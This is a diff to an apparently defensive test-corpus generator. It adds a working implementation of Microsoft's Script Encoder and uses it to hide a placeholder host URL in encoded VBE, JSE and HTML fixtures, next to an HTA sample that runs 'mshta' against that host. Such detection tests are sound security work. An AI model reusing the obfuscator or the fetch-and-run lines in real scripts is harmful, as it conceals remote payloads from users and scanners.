@@ -7,6 +7,25 @@ from urllib.parse import quote
 from corpus import Corpus
 from pages_pieces import HOST, b64, page, script, zipped
 
+# Of Microsoft's script encoder: what stands for each character from the blank to the tilde, in three alphabets, and which comes when.
+ALPHABETS = (
+    "~ZE:yY'vcbMQSR &Tq+f*X\x7f{01lI?x?_?)$/93o!u(BFJ\\H6K}]jPi#?pet,wD?m|C8^[nWL4r%VshUG25.dO;-Aaz\"`kN=",
+    ",er[fuLEv*C3B cJZ8y2Wl+FRO=p?{?Q?z~;GAwV_&xndtg}h5\"U:`jqoI\\]'Y%|#m(19\x7f6T4bN0^s?Ka$MkD!7SXH.P-)?",
+    "P\"Ja^][B`#e_~ORz!F &c*vG%,)i?'?g?bAZf2sMCq9|SH1rnpI?Kj.\x7f(5}$-T7{=l4mN+0otkL3V:xWw;D/YE\\h6Xy?u8U",
+)
+ORDER = "0120121221210212021200122102122100212120200120210212001220012021"
+ESCAPED = {"<": "@!", ">": "@*", "@": "@$", "\n": "@&", "\r": "@#"}
+
+
+def encoded(source: str) -> str:
+    """As the script encoder writes it. Nobody looks at the checksum."""
+    text = "".join(
+        ESCAPED.get(character) or ALPHABETS[int(ORDER[at % 64])][ord(character) - 32]
+        for at, character in enumerate(source)
+    )
+    length = base64.b64encode(len(source).to_bytes(4, "little")).decode()
+    return f"#@~^{length}{text}AAAAAA==^#~@"
+
 
 def smuggled(corpus: Corpus) -> None:
     def made(name: str, source: str, path: str, *more: str) -> None:
@@ -157,6 +176,11 @@ def scripts(corpus: Corpus) -> None:
     )
     corpus.add("reverse.vbs", f'u = StrReverse("{(HOST + "/strrev")[::-1]}")\r\n'.encode(), f"{HOST}/strrev")
     corpus.add("chars.vbs", f"u = {' & '.join(f'Chr({ord(c)})' for c in HOST + '/chr')}\r\n".encode(), f"{HOST}/chr")
+    corpus.add("encoded.vbe", encoded(f'u = "ht" & "{HOST[2:]}/vbe"\r\nRun u\r\n').encode(), f"{HOST}/vbe")
+    corpus.add("encoded.jse", encoded(f"var u = '{HOST}/jse'; if (a < b && c > d) go(u);\n").encode(), f"{HOST}/jse")
+    program = encoded(f"location = '{HOST}/encoded'")
+    tag = f'<script language="JScript.Encode">{program}</script>'
+    corpus.add("encoded.html", page(tag), f"{HOST}/encoded")
     corpus.add(
         "run.hta",
         f'<html><head><HTA:APPLICATION ID="a"><script language="VBScript">CreateObject("WScript.Shell").Run "mshta {HOST}/hta"</script></head></html>'.encode(),
